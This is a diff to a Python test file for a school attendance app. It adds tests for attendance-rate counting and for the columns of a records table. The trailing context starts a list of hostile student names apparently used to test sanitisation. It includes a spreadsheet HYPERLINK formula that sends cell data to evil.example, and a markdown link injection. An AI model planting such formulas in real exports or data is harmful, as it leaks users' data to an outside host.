@@ -281,6 +281,44 @@ def test_student_rate_is_days_present_over_days_the_class_met():
     assert ordered[0] == "s0" and ordered[-1] == "s2"
 
 
+def test_only_present_and_late_count_as_attended():
+    roster = [student(f"s{i}", f"S{i}", "room-1") for i in range(4)]
+    records = [
+        record("s0", D1),
+        record("s1", D1).model_copy(update={"status": "late", "source": "manual"}),
+        record("s2", D1).model_copy(update={"status": "excused", "source": "manual"}),
+        record("s3", D1).model_copy(update={"status": "absent", "source": "manual"}),
+        # Only excused on D2: the class met, nobody attended.
+        record("s0", D2).model_copy(update={"status": "excused", "source": "manual"}),
+        # Absent in one period and present in another: present that day.
+        record("s1", D2).model_copy(update={"status": "absent", "period": "1"}),
+        record("s1", D2).model_copy(update={"period": "2"}),
+    ]
+    rates = daily_rates(records, roster_sizes(roster))
+    assert [(r.date, r.present, r.roster) for r in rates] == [(D1, 2, 4), (D2, 1, 4)]
+    per_student = {
+        r.student_id: (r.present_days, r.class_days)
+        for r in student_rates(records, roster, "room-1")
+    }
+    assert per_student == {"s0": (1, 2), "s1": (2, 2), "s2": (0, 2), "s3": (0, 2)}
+
+
+def test_the_table_shows_each_marks_status_period_and_source():
+    from attendance.frontend.views.attendance import records_frame
+
+    frame = records_frame(
+        [
+            record("s0", D1),
+            record("s1", D1).model_copy(
+                update={"status": "excused", "source": "manual", "period": "P3", "distance": None}
+            ),
+        ]
+    )
+    assert {"status", "period", "source"} <= set(frame.columns)
+    shown = {row.student_id: (row.status, row.period, row.source) for row in frame.itertuples()}
+    assert shown == {"s0": ("present", "whole day", "face"), "s1": ("excused", "P3", "manual")}
+
+
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?x="&A2,"details")',
     "**bold** [link](http://x)",
